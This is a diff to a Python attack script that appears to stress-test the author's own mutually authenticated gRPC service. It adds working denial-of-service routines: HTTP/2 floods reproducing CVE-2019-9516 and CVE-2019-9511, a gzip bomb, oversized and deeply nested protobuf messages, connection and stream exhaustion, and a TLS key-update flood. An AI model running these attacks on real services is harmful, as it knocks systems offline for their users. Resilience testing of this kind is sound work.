@@ -5,11 +5,13 @@ python attacks.py NAME HOST:PORT CERTS IDENTITY SECONDS
 """
 
 import contextlib
+import gzip
 import pathlib
 import select
 import socket
 import ssl
 import struct
+import subprocess
 import sys
 import time
 
@@ -46,6 +48,7 @@ def request(path, *more):
 
 STATUS = request("/triaged.v1.OperationsService/GetStatus")
 LIST = request("/triaged.v1.TriageService/ListCases")
+WATCH = request("/triaged.v1.TriageService/WatchBoard")
 REPORT = request("/triaged.v1.TriageService/SubmitReport")
 EMPTY = b"\0\0\0\0\0"
 # page_size (field 1) = 1000
@@ -111,7 +114,8 @@ class Target:
     def __init__(self, address, certs, identity, seconds):
         host, port = address.split(":")
         self.address, self.end = (host, int(port)), time.monotonic() + seconds
-        certs = pathlib.Path(certs)
+        self.certs = certs = pathlib.Path(certs)
+        self.identity = identity
         self.context = ssl.create_default_context(cafile=certs / "ca.crt")
         self.context.load_cert_chain(certs / f"{identity}.crt", certs / f"{identity}.key")
         self.context.set_alpn_protocols(["h2"])
@@ -281,6 +285,142 @@ def storm_of_calls(target):
                     peer.open(STATUS) + frame(DATA, END_STREAM, peer.stream, EMPTY)
                     for _ in range(10)))
             peer.read()
+
+
+def zero_length_headers(target):
+    """CVE-2019-9516: fields without a name."""
+    block = STATUS + literals(*[("", "")] * 20)
+    flood(target, lambda peer: b"".join(peer.open(block) for _ in range(10)))
+
+
+def padding(target):
+    """DATA that is padding and nothing else, as long as a frame may be."""
+    flood(target, lambda peer: frame(DATA, 8, peer.stream, b"\xff" + b"\0" * 255) * 20,
+          start=lambda peer: peer.open(STATUS))
+
+
+def dribble(target):
+    """CVE-2019-9511: whole pages, asked for byte by byte."""
+    peers = [Peer(target, struct.pack(">HI", 4, 1)) for _ in range(8)]
+    for peer in peers:
+        for _ in range(99):
+            peer.send(peer.open(LIST) + frame(DATA, END_STREAM, peer.stream, PAGE))
+    while target.goes_on:
+        for peer in peers:
+            if not peer.is_full:
+                peer.send(b"".join(frame(WINDOW, 0, stream, b"\0\0\0\1")
+                                   for stream in range(3, peer.stream + 2, 2)))
+            peer.read()
+
+
+def tiny_records(target):
+    """A TLS record for each byte."""
+    peers = [Peer(target) for _ in range(8)]
+    while target.goes_on:
+        for peer in peers:
+            call = peer.open(STATUS) + frame(DATA, END_STREAM, peer.stream, EMPTY)
+            for at in range(len(call)):
+                if peer.gone or peer.is_full:
+                    break
+                peer.send(call[at:at + 1])
+            peer.read()
+
+
+def message(body, compressed=0):
+    return bytes([compressed]) + struct.pack(">I", len(body)) + body
+
+
+def bodies(target, body, *more, compressed=0):
+    """The same request again and again, on a few connections at once."""
+    data = message(body, compressed)
+    head = request("/triaged.v1.TriageService/SubmitReport", *more)
+
+    def call(peer):
+        return peer.open(head) + b"".join(
+            frame(DATA, END_STREAM if at + 16_384 >= len(data) else 0, peer.stream,
+                  data[at:at + 16_384]) for at in range(0, len(data), 16_384))
+    flood(target, call)
+
+
+def gzip_bomb(target):
+    bodies(target, gzip.compress(b"\0" * (1 << 20)), ("grpc-encoding", "gzip"), compressed=1)
+
+
+def tiny_fields(target):
+    """As many empty texts as a message has room for: protobuf-c would make 28 times as much."""
+    # Report (field 2) with evidence_uris (field 14) of no bytes.
+    report = b"\x72\0" * 400_000
+    size = len(report)
+    bodies(target, b"\x12" + bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14])
+           + report)
+
+
+def unknown_fields(target):
+    """A few fields that nobody knows, as large as a message may be."""
+    bodies(target, (b"\xfa\x7f\x80\x80\4" + b"\0" * 65_536) * 15)
+
+
+def deep_messages(target):
+    """A message in a message in a message: the schema has no such type, so all of it is skipped."""
+    body = b""
+    for _ in range(2_000):
+        size, length = len(body), b""
+        while size >= 128:
+            length, size = length + bytes([size & 127 | 128]), size >> 7
+        body = b"\x12" + length + bytes([size]) + body
+    bodies(target, body)
+
+
+def many_connections(target):
+    """More than one identity may have, all of them kept."""
+    peers = []
+    while target.goes_on:
+        with contextlib.suppress(OSError):
+            peers.append(Peer(target))
+        for peer in peers[-80:]:
+            peer.read()
+        peers = [peer for peer in peers if not peer.gone]
+
+
+def watches(target):
+    """As many watches of the board as there may be, and more; nothing of them is read."""
+    peers = [Peer(target, struct.pack(">HI", 4, 1)) for _ in range(30)]
+    for peer in peers:
+        for _ in range(25):
+            peer.send(peer.open(WATCH) + frame(DATA, END_STREAM, peer.stream, EMPTY))
+    while target.goes_on:
+        for peer in peers:
+            peer.read()
+            peer.send(b"")
+        time.sleep(0.01)
+
+
+def nobodys_methods(target):
+    """Calls of what is not there, and requests that are no calls: refused, but not for nothing."""
+    gone = request("/no.such.Service/Method")
+    page = literals((":method", "GET"), (":scheme", "https"), (":path", "/"),
+                    (":authority", "localhost"))
+    flood(target, lambda peer: b"".join(
+        peer.open(block, END_HEADERS | END_STREAM) for block in (gone, page) * 10))
+
+
+def key_updates(target):
+    """Only OpenSSL's own client can ask for them."""
+    host, port = target.address
+    while target.goes_on:
+        client = subprocess.Popen(
+            ["openssl", "s_client", "-connect", f"{host}:{port}", "-alpn", "h2", "-CAfile",
+             target.certs / "ca.crt", "-cert", target.certs / f"{target.identity}.crt", "-key",
+             target.certs / f"{target.identity}.key"],
+            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        with contextlib.suppress(BrokenPipeError):
+            for _ in range(60):
+                # A line of its own is a command.
+                client.stdin.write(b"k\n")
+                client.stdin.flush()
+                time.sleep(0.003)
+        client.kill()
+        client.wait()
 
 
 if __name__ == "__main__":
